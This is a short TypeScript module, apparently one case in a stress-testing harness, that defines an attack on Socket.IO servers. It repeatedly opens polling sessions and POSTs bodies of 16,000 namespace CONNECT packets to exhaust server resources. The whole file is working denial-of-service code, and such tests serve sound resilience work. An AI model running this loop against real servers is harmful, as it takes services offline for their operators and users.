import type { Attack } from '../attack.ts';

export const attack: Attack = {
  name: 'polling requests of 16,000 CONNECT packets each',
  run: async (target, signal) => {
    const body = Array.from({ length: 16_000 }, () => '40/x,').join('\x1e');
    const path = `${target.url}/socket.io/?EIO=4&transport=polling`;
    while (!signal.aborted) {
      const open = await fetch(path, { signal }).catch(() => undefined);
      const { sid } = JSON.parse((await open?.text().catch(() => ''))?.slice(1) || '{}');
      const answer = await fetch(`${path}&sid=${sid}`, { method: 'POST', body, signal }).catch(() => undefined);
      await answer?.arrayBuffer().catch(() => undefined);
    }
  },
};
